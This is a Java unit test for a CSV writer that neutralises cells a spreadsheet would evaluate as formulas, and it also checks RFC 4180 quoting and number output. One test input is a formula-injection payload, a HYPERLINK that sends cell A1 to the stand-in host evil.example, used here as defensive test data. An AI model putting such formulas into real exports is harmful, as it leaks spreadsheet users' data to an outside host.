package uk.tidemark.app.web.csv;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The cells of {@link SafeCsv}: text that a spreadsheet would evaluate is neutralised; numbers stay numbers. */
class SafeCsvTest {

    @Test
    void textThatBeginsLikeAFormulaGetsAQuoteBeforeItAndIsQuoted() {
        assertThat(SafeCsv.text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")").written())
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"");
        assertThat(SafeCsv.text("+1+2").written()).isEqualTo("\"'+1+2\"");
        assertThat(SafeCsv.text("-2+3").written()).isEqualTo("\"'-2+3\"");
        assertThat(SafeCsv.text("-5").written()).as("text that looks negative is still text").isEqualTo("\"'-5\"");
        assertThat(SafeCsv.text("@SUM(A1:A9)").written()).isEqualTo("\"'@SUM(A1:A9)\"");
        assertThat(SafeCsv.text("\t=1").written()).isEqualTo("\"'\t=1\"");
        assertThat(SafeCsv.text("\r=1").written()).isEqualTo("\"'\r=1\"");
    }

    @Test
    void ordinaryTextIsQuotedOnlyWhenRfc4180NeedsIt() {
        assertThat(SafeCsv.text("Alder School").written()).isEqualTo("Alder School");
        assertThat(SafeCsv.text("fewer than 5").written()).isEqualTo("fewer than 5");
        assertThat(SafeCsv.text("Smith, Jo").written()).isEqualTo("\"Smith, Jo\"");
        assertThat(SafeCsv.text("a \"b\"").written()).isEqualTo("\"a \"\"b\"\"\"");
        assertThat(SafeCsv.text("a=b").written()).as("only the first character matters").isEqualTo("a=b");
        assertThat(SafeCsv.text(null).written()).isEmpty();
    }

    @Test
    void numbersAreWrittenAsPlainDigitsNegativeOnesIncluded() {
        assertThat(SafeCsv.number(12).written()).isEqualTo("12");
        assertThat(SafeCsv.number(-3).written()).isEqualTo("-3");
        assertThat(SafeCsv.number(-0.25).written()).isEqualTo("-0.25");
        assertThat(SafeCsv.number(new BigDecimal("1E+3")).written()).isEqualTo("1000");
        assertThat(SafeCsv.number(null).written()).isEmpty();
    }

    @Test
    void theFileParsesBackToTheValuesWithTheTextNeutralised() throws IOException {
        String file = SafeCsv.write(List.of("name", "change"), List.of(
                List.of(SafeCsv.text("=1+1"), SafeCsv.number(-4)),
                List.of(SafeCsv.text("Birch, School"), SafeCsv.number(7))));
        assertThat(file).startsWith("name,change\r\n").endsWith("\r\n");
        try (CSVParser parser = CSVParser.parse(new StringReader(file),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build())) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows.get(0).get("name")).isEqualTo("'=1+1");
            assertThat(rows.get(0).get("change")).isEqualTo("-4");
            assertThat(rows.get(1).get("name")).isEqualTo("Birch, School");
        }
    }
}
